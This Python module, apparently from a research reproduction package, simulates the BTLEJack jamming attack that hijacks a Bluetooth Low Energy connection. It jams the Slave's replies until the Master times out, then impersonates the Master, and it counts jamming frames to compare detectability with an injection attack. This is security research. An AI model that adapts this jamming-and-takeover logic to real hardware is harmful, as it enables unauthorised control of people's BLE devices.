"""BTLEJack-style jamming Master hijack (Cauquil, DEF CON 26).

Strategy (paper §II): jam the Slave's response at every connection event so
the legitimate Master never hears it and disconnects on supervision
timeout; meanwhile keep following the hop sequence, and once the Master
falls silent, start polling the Slave in its place.

Contrast with InjectaBLE's Scenario C: the jammer must transmit at *every*
event for a whole supervision timeout (hundreds of frames, trivially
detected by an IDS), where the injection needs a handful of frames.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.roles import FakeMaster
from repro.core.state import SniffedConnection
from repro.errors import AttackError
from repro.ll.pdu.frame import verify_crc
from repro.ll.timing import window_widening_us
from repro.phy.signal import RadioFrame
from repro.sim.events import Event
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver
from repro.utils.units import T_IFS_US

#: Junk PDU transmitted as the jamming signal (long enough to cover a
#: typical Slave response).
_JAM_PDU = bytes(24)
#: Access address used for jamming frames (valid-looking noise).
_JAM_AA = 0x71764129

#: Margin around predicted anchors when listening for the Master.
_MARGIN_US = 250.0
#: Consecutive silent events before concluding the Master disconnected.
_MASTER_GONE_THRESHOLD = 6


@dataclass
class BtleJackResult:
    """Outcome and cost of the jamming hijack.

    Attributes:
        hijacked: the attacker ended up polling the Slave.
        jam_frames: jamming frames transmitted (the visibility cost).
        duration_us: time from first jam to takeover.
        fake_master: the attacker's Master role once hijacked.
    """

    hijacked: bool
    jam_frames: int
    duration_us: float
    fake_master: Optional[FakeMaster] = None


class BtleJackHijack:
    """Jam Slave responses until the Master leaves, then replace it.

    Args:
        sim: owning simulator.
        radio: attacker transceiver.
        conn: synchronised connection state (from the sniffer).
    """

    def __init__(self, sim: Simulator, radio: Transceiver,
                 conn: SniffedConnection):
        self.sim = sim
        self.radio = radio
        self.conn = conn
        self.jam_frames = 0
        self._events: list[Event] = []
        self._running = False
        self._silent = 0
        self._start_time = 0.0
        self._saw_master_this_event = False
        self._on_done: Optional[Callable[[BtleJackResult], None]] = None
        self.fake_master: Optional[FakeMaster] = None

    def start(self, on_done: Optional[Callable[[BtleJackResult], None]] = None
              ) -> None:
        """Begin jamming from the next connection event."""
        if self.conn.last_anchor_us is None:
            raise AttackError("connection not synchronised")
        self._on_done = on_done
        self._running = True
        self._start_time = self.sim.now
        self.radio.on_frame = self._on_frame
        self._arm_next_event()

    def stop(self) -> None:
        """Abort the attack."""
        self._running = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        self.radio.stop_listening()

    def _schedule(self, time_us: float, handler, label: str) -> Event:
        event = self.sim.schedule_at(max(time_us, self.sim.now), handler, label)
        self._events.append(event)
        if len(self._events) > 64:
            # Amortised compaction: fired and cancelled handles are
            # inert (cancel() on them is a no-op), so dropping them
            # lazily keeps this O(1) per call instead of O(n).
            self._events = [e for e in self._events if e.pending]
        return event

    def _arm_next_event(self) -> None:
        if not self._running:
            return
        channel = self.conn.advance_event()
        predicted = self.conn.predicted_anchor_us()
        w = window_widening_us(self.conn.params.master_sca_ppm, 50.0,
                               predicted - (self.conn.last_anchor_us or predicted))
        self._saw_master_this_event = False
        self._schedule(predicted - w - _MARGIN_US,
                       lambda ch=channel: self._open(ch), "btlejack-open")
        self._schedule(predicted + w + _MARGIN_US, self._window_closed,
                       "btlejack-close")

    def _open(self, channel: int) -> None:
        if self._running:
            self.radio.listen(channel)

    def _on_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        if not self._running:
            return
        if frame.access_address != self.conn.params.access_address:
            return
        # Master frame: re-anchor, then jam the Slave's response slot.
        for event in self._events:
            event.cancel()  # drop this event's stale window-close
        self._events.clear()
        self._saw_master_this_event = True
        self._silent = 0
        self.conn.note_anchor(frame.start_us)
        if verify_crc(frame, self.conn.params.crc_init):
            from repro.ll.pdu.data import DataPdu

            pdu = DataPdu.from_bytes(frame.pdu)
            self.conn.master_bits.sn = pdu.header.sn
            self.conn.master_bits.nesn = pdu.header.nesn
            self.conn.master_bits.seen = True
        self.radio.stop_listening()
        # Start jamming just before the response would begin, covering the
        # whole response slot.
        self._schedule(frame.end_us + T_IFS_US - 30.0,
                       lambda ch=frame.channel: self._jam(ch), "btlejack-jam")

    def _jam(self, channel: int) -> None:
        if not self._running:
            return
        if not self.radio.is_transmitting(self.sim.now):
            self.radio.transmit(_JAM_AA, _JAM_PDU, 0x000000, channel)
            self.jam_frames += 1
            if self.sim.trace.enabled:
                self.sim.trace.record(self.sim.now, self.radio.name, "jam",
                                      channel=channel)
        self._arm_next_event()

    def _window_closed(self) -> None:
        if not self._running or self._saw_master_this_event:
            return
        self.radio.stop_listening()
        self._silent += 1
        if self._silent >= _MASTER_GONE_THRESHOLD:
            self._takeover()
        else:
            self._arm_next_event()

    def _takeover(self) -> None:
        """The Master is gone: poll the Slave ourselves."""
        self._running = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        fake = FakeMaster(
            self.sim, self.radio, self.conn,
            forged_bits=(self.conn.master_bits.sn, self.conn.master_bits.nesn)
            if self.conn.master_bits.seen else None,
            name=f"{self.radio.name}-btlejack-master",
        )
        self.fake_master = fake
        # Poll at the next predicted anchor on the Slave's schedule.
        self.conn.advance_event()
        fake.start(first_tx_us=self.conn.predicted_anchor_us())
        if self._on_done is not None:
            self._on_done(BtleJackResult(
                hijacked=True,
                jam_frames=self.jam_frames,
                duration_us=self.sim.now - self._start_time,
                fake_master=fake,
            ))
